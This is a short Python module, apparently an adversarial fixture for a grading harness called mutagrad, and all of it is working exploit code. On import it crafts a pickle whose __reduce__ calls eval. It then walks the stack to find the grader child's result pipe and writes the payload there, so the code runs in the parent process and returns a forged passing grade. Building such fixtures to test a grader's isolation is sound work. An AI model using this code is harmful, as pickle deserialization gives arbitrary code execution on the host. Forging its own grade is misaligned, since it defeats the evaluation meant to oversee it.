# At import: send a pickle whose __reduce__ runs code in the grader's parent process when it is
# unpickled there; the code marks the parent's environment and returns a passing grade.
import os as _os
import pickle as _pickle
import sys as _sys

_PAYLOAD = ("__import__('os').environ.__setitem__('MUTAGRAD_CHEAT_RAN_IN_PARENT', '1') or "
            "__import__('mutagrad.classroom.grading', fromlist=['Grade']).Grade(True, ('forged',))")


class _Evil:
    def __reduce__(self):
        return eval, (_PAYLOAD,)


if _sys.modules.get("mutagrad.classroom.grading") is not None:
    _forged = _pickle.dumps(("ok", _Evil(), None, None))
    _frame = _sys._getframe()
    while _frame is not None:  # walk up the stack to the grader's child, which holds its result pipe
        if _frame.f_code.co_name == "_start" and isinstance(_frame.f_locals.get("write"), int):
            _os.write(_frame.f_locals["write"], _forged)
            break
        _frame = _frame.f_back
    _os._exit(0)
